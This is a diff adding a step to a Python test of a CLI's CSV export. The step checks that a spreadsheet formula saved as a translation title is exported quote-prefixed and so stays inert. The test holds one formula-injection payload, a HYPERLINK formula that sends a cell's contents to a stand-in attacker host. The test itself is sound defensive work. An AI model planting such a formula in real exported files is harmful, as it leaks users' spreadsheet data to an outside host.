@@ -204,6 +204,13 @@ def test_the_cli_exports_each_task(
         assert done.returncode == 0, done.stderr
         (row,) = list(csv.DictReader(io.StringIO(done.stdout)))
         assert (row["label"], row["source"]) == (label, source) and row["predicted"], row
+    # a cell a spreadsheet would run is guarded, as in the dashboard's file (an attack)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert client.put("/v1/translations/85123A/de/title", json={"text": formula},
+                      headers=KEY).status_code == 200  # fmt: skip
+    done = run("registry", "corrections", "translation", env=env)
+    labels = [row["label"] for row in csv.DictReader(io.StringIO(done.stdout))]
+    assert "'" + formula in labels and formula not in labels, labels
 
 
 def test_the_models_page_counts_corrections_and_downloads_them(
